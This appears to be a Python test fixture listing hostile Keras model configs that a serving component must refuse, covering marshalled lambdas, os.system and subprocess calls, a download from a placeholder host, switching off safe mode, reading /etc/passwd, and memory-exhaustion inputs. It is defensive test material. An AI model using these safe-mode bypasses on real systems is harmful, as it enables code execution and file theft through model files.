"""Networks that would do more than compute: what is known of ways round the safe mode of Keras, and its like."""

import base64
import json
import marshal
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from ecg_testing.keras_archives import layer, network_of


@dataclass(frozen=True, slots=True)
class HostileNetwork:
    """A config.json that is refused, and a part of what is said of it.

    Attributes:
        name: what is wrong with it.
        config: it, given the path of a file that code in it would write.
        problem: a part of the error.
    """

    name: str
    config: Callable[[Path], object]
    problem: str


def _code(marker: Path) -> str:
    """Return a function as Keras writes it: it would write the marker."""
    function = eval(f"lambda x: open({str(marker)!r}, 'w').close() or x")  # noqa: S307 - nobody calls it
    return base64.b64encode(marshal.dumps(function.__code__)).decode()


def _keras_lambda(marker: Path) -> dict[str, Any]:
    return {"class_name": "__lambda__", "config": {"value": [_code(marker), None, None]}}


def _function(name: str, module: str, registered_name: str | None = None) -> dict[str, Any]:
    return {"class_name": "function", "config": name, "module": module, "registered_name": registered_name}


def _dense(**config: Any) -> dict[str, Any]:
    return network_of(layer("Dense", units=5, **config))


def _called(name: str, module: str, *arguments: str) -> dict[str, Any]:
    """Return a network whose "layer" is a function that is called with these arguments."""
    called = {
        **_function(name, module, name),
        "build_config": {"input_shape": arguments},
        "inbound_nodes": [{"args": list(arguments), "kwargs": {}}],
    }
    return {**network_of(called), "class_name": "Functional", "module": "keras.src.models.functional"}


_NOT_SERVED = "which is not served; save a network that is made of Keras's own layers"

_STRANGERS = {
    "a Lambda layer": lambda marker: network_of(layer("Lambda", function=_keras_lambda(marker))),
    "a Lambda layer of Keras 2": lambda marker: network_of(
        layer("Lambda", None, function=[_code(marker), None, None], function_type="lambda")
    ),
    "a lambda as activation": lambda marker: _dense(activation=_keras_lambda(marker)),
    "a lambda in a list in a layer's call": lambda marker: network_of(
        layer("Dense", units=5) | {"inbound_nodes": [[{"kwargs": {"mask": [_keras_lambda(marker)]}}]]}
    ),
    "a module of the system": lambda marker: _called("system", "os", f"touch {marker}"),
    "a class of the system": lambda marker: network_of(layer("Popen", "subprocess", args=["touch", str(marker)])),
    "a module beside the server": lambda marker: network_of(layer("Dense", f"{marker.stem}")),
    "a function of Python": lambda _: _dense(activation=_function("eval", "builtins")),
    "a function under a known name": lambda _: _dense(activation=_function("relu", "os", "system")),
    "a function under another registered name": lambda _: _dense(activation=_function("relu", "builtins", "evil>relu")),
    "a class that somebody registered": lambda _: network_of(
        layer("Dense", units=5) | {"registered_name": "evil>Dense"}
    ),
    "a download": lambda _: _called("get_file", "keras.utils", "evil.bin", "http://192.0.2.1/evil.bin"),
    "the end of safe mode": lambda _: _called("enable_unsafe_deserialization", "keras.config"),
    "the end of safe mode, from where it lives": lambda _: _called(
        "enable_unsafe_deserialization", "keras.src.saving.serialization_lib"
    ),
    "another model from disk": lambda marker: _called("load_model", "keras.models", str(marker)),
    "words from a file": lambda _: network_of(layer("StringLookup", vocabulary="/etc/passwd")),
    "numbers from a file": lambda _: network_of(layer("IntegerLookup", vocabulary="/etc/passwd")),
    "text from a file": lambda _: network_of(layer("TextVectorization", vocabulary="/etc/passwd")),
    "a saved model from disk": lambda marker: network_of(layer("TFSMLayer", filepath=str(marker))),
    "an operation of TensorFlow": lambda _: network_of(layer("TFOpLambda", function="io.write_file")),
    "a module of Torch": lambda _: network_of(layer("TorchModuleWrapper", module="gASVAAAA")),
    "a function of JAX": lambda marker: network_of(layer("JaxLayer", call_fn=_keras_lambda(marker))),
    "a type of TensorFlow": lambda _: _dense(
        activation={
            "class_name": "__typespec__",
            "spec_name": "X",
            "module": "os",
            "registered_name": None,
            "config": [],
        }
    ),
    "a class within a class": lambda _: network_of(layer("Sequential.__init__.__globals__", "keras")),
    "a module that only begins like Keras": lambda _: network_of(layer("Dense", "kerasevil.layers")),
    "a network within the network": lambda marker: network_of(
        network_of(layer("TimeDistributed", layer=layer("Lambda", function=_keras_lambda(marker))))
    ),
    "a penalty of somebody's own": lambda _: _dense(kernel_regularizer=layer("Evil", "evil")),
}

HOSTILE_NETWORKS = [
    *(HostileNetwork(name, config, _NOT_SERVED) for name, config in _STRANGERS.items()),
    HostileNetwork("a layer that takes all memory", lambda _: network_of(layer("Dense", units=10**9)), "as 'units'"),
    *(
        HostileNetwork(
            f"a layer that takes all memory, as {units!r}",
            lambda _, units=units: network_of(layer("Dense", units=units)),
            "as 'units'",
        )
        for units in (1e12, "2000000000", " +2_000_000_000 ", "1e12")
    ),
    HostileNetwork("a shape that takes all memory", lambda _: _dense(batch_shape=[None, [10**9]]), "as 'batch_shape'"),
    HostileNetwork(
        "text that takes all memory",
        lambda _: _dense(bias={"class_name": "__numpy__", "config": {"value": "", "dtype": "U1000000000"}}),
        "values of the type 'U1000000000'",
    ),
    HostileNetwork("no JSON", lambda _: "{", "damaged or nested too deeply"),
    HostileNetwork("JSON that never ends", lambda _: "[" * 1_000_000, "damaged or nested too deeply"),
    HostileNetwork("JSON within JSON", lambda _: '{"config":' * 100_000 + "1" + "}" * 100_000, "nested too deeply"),
    HostileNetwork("a number without end", lambda _: f'{{"class_name": "Sequential", "x": {"9" * 5000}}}', "damaged"),
    HostileNetwork("a name that is a list", lambda _: {"class_name": ["Sequential"]}, "damaged or nested too deeply"),
    HostileNetwork("a layer whose name is a list", lambda _: network_of(layer(["Dense"])), "damaged"),  # type: ignore[arg-type]
    HostileNetwork("a list", lambda _: "[]", "describes no network"),
    HostileNetwork("a layer alone", lambda _: layer("Dense", units=5), "describes no network"),
    HostileNetwork("a function alone", lambda _: _function("system", "os"), "describes no network"),
]


def as_json(config: object) -> str:
    """Return a config.json as text."""
    return config if isinstance(config, str) else json.dumps(config)
